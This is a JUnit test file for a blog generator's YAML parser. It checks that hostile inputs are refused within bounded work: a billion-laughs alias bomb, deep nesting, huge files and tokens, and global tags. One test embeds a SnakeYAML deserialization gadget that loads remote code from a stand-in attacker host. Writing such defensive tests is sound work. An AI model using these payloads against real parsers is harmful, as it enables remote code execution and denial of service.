package io.github.blogmaven.model;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.blogmaven.model.canary.Canary;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("Hostile files cost bounded work: size, YAML aliases, nesting and tags are limited and reported")
class LimitsTest {
    private static final Duration QUICKLY = Duration.ofSeconds(10);

    @TempDir
    Path dir;

    private List<ContentProblem> problems(String path, String text) {
        return assertTimeoutPreemptively(QUICKLY,
                () -> TempSite.withConfig(dir, "timezone: UTC\n").file(path, text).problems());
    }

    private static String aliasBomb() {
        StringBuilder yaml = new StringBuilder("a: &a [\"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", "
                + "\"lol\", \"lol\"]\n");
        char previous = 'a';
        for (char c = 'b'; c <= 'i'; c++) {
            yaml.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ", ").append('*').append(previous);
            }
            yaml.append("]\n");
            previous = c;
        }
        return yaml.toString();
    }

    @Test
    @DisplayName("a billion-laughs alias bomb in front matter is one problem, found at once, naming the limit")
    void aliasBombInFrontMatter() {
        List<ContentProblem> problems = problems("source/_posts/lol.md", "---\n" + aliasBomb() + "---\nBody\n");
        assertEquals(1, problems.size(), problems.toString());
        ContentProblem problem = problems.get(0);
        assertEquals("source/_posts/lol.md", problem.path());
        assertTrue(problem.line() > 1 && problem.column() > 0, problem.toString());
        assertTrue(problem.message().contains("aliases"), problem.toString());
        assertTrue(problem.hint().startsWith("YAML is limited to 50 aliases"), problem.toString());
    }

    @Test
    @DisplayName("an alias bomb in _config.yml or in a data file is stopped the same way")
    void aliasBombInConfigAndData() {
        List<ContentProblem> problems = assertTimeoutPreemptively(QUICKLY, () -> new TempSite(dir)
                .file("_config.yml", aliasBomb()).file("source/_data/lol.yml", aliasBomb()).problems());
        assertEquals(List.of("_config.yml", "source/_data/lol.yml"),
                problems.stream().map(ContentProblem::path).toList());
        problems.forEach(p -> assertTrue(p.hint().startsWith("YAML is limited"), p.toString()));
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"flow sequences [[[[...", "flow maps {a: {a: ...", "block sequences - - - ..."})
    @DisplayName("10,000 levels of nesting are one problem at the level where the limit was passed")
    void deepNesting(String kind) {
        int depth = 10_000;
        String value = switch (kind.charAt(5)) {
            case 's' -> "[".repeat(depth) + "]".repeat(depth);
            case 'm' -> "{a: ".repeat(depth) + "x" + "}".repeat(depth);
            default -> "\n" + "- ".repeat(depth) + "x";
        };
        List<ContentProblem> problems = problems("source/_posts/deep.md", "---\ntitle: t\ndeep: " + value
                + "\n---\nBody\n");
        assertEquals(1, problems.size(), problems.toString());
        ContentProblem problem = problems.get(0);
        assertEquals(value.startsWith("\n") ? 4 : 3, problem.line(), problem.toString());
        assertTrue(problem.column() > 50, "placed where the 51st level starts: " + problem);
        assertTrue(problem.message().contains("Nesting Depth"), problem.toString());
        assertTrue(problem.hint().contains("nesting 50 deep"), problem.toString());
    }

    @Test
    @DisplayName("front matter of more than five million characters is one problem naming the size limit")
    void hugeDocument() {
        String big = "xy ".repeat(1_800_000);
        List<ContentProblem> problems = problems("source/_posts/big.md", "---\ntitle: t\nblob: " + big
                + "\n---\nBody\n");
        assertEquals(1, problems.size(), problems.toString());
        assertTrue(problems.get(0).message().contains("exceeds the limit"), problems.get(0).toString());
        assertTrue(problems.get(0).line() == 3 && problems.get(0).column() > 1, problems.get(0).toString());
        assertTrue(problems.get(0).hint().contains("5 Mi characters"), problems.get(0).toString());
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"plain", "double-quoted", "single-quoted", "block literal", "key"})
    @DisplayName("a YAML token of 300,000 characters without a space, which SnakeYAML reads in quadratic time, is "
            + "refused at once")
    void longToken(String kind) {
        String run = "x".repeat(300_000);
        String yaml = switch (kind) {
            case "plain" -> "blob: " + run;
            case "double-quoted" -> "blob: \"" + run + "\"";
            case "single-quoted" -> "blob: '" + run + "'";
            case "block literal" -> "blob: |\n  " + run;
            default -> run + ": x";
        };
        List<ContentProblem> problems = problems("source/_posts/long.md", "---\ntitle: t\n" + yaml + "\n---\n");
        assertEquals(1, problems.size(), problems.toString());
        assertTrue(problems.get(0).message().contains("characters without a space or line break"), problems.get(0)
                .toString());
        assertEquals(kind.equals("block literal") ? 4 : 3, problems.get(0).line(), problems.get(0).toString());
        assertTrue(problems.get(0).hint().contains("256 Ki characters"), problems.get(0).toString());
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"source/_posts/big.md", "source/about.md", "source/_data/big.json", "_config.yml"})
    @DisplayName("a source file over 10 MiB is refused before it is read, naming the file and the limit")
    void oversizedFile(String path) throws Exception {
        TempSite site = new TempSite(dir).file("_config.yml", "timezone: UTC\n");
        Path file = dir.resolve(path);
        Files.createDirectories(file.getParent());
        try (RandomAccessFile sparse = new RandomAccessFile(file.toFile(), "rw")) {
            sparse.setLength(10L * 1024 * 1024 + 1);
        }
        List<ContentProblem> problems = assertTimeoutPreemptively(QUICKLY, site::problems);
        assertEquals(1, problems.size(), problems.toString());
        assertEquals(path, problems.get(0).path());
        assertTrue(problems.get(0).message().contains("10485761 bytes, more than the 10 MiB"),
                problems.get(0).toString());
    }

    @Test
    @DisplayName("a file of exactly 10 MiB is still read")
    void sizeLimitIsInclusive() throws Exception {
        String body = "a".repeat(10 * 1024 * 1024 - "---\ntitle: t\n---\n".length());
        Site site = TempSite.withConfig(dir, "timezone: UTC\n")
                .file("source/_posts/edge.md", "---\ntitle: t\n---\n" + body).load();
        assertEquals(body, site.posts().get(0).body().text());
    }

    @Test
    @DisplayName("a global tag naming a Java class is a problem, and the class is never initialised")
    void globalTagLoadsNoClass() {
        String yaml = "---\ntitle: t\nx: !!io.github.blogmaven.model.canary.Canary {}\n"
                + "y: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                + "[\"http://attacker.example/\"]]]]\n---\n";
        List<ContentProblem> problems = problems("source/_posts/tag.md", yaml);
        assertFalse(Canary.Witness.initialized, "the named class was initialised");
        assertFalse(Canary.Witness.instantiated, "the named class was instantiated");
        assertEquals(1, problems.size(), "composing stops at the first global tag: " + problems);
        assertEquals(3, problems.get(0).line(), problems.get(0).toString());
        assertTrue(problems.get(0).hint().startsWith("remove the !tag"), problems.get(0).toString());
    }

    @Test
    @DisplayName("a global tag in a data file is refused too")
    void globalTagInData() {
        List<ContentProblem> problems = problems("source/_data/evil.yml",
                "x: !!io.github.blogmaven.model.canary.Canary {}\n");
        assertFalse(Canary.Witness.initialized);
        assertEquals(1, problems.size(), problems.toString());
        assertEquals(1, problems.get(0).line());
    }
}
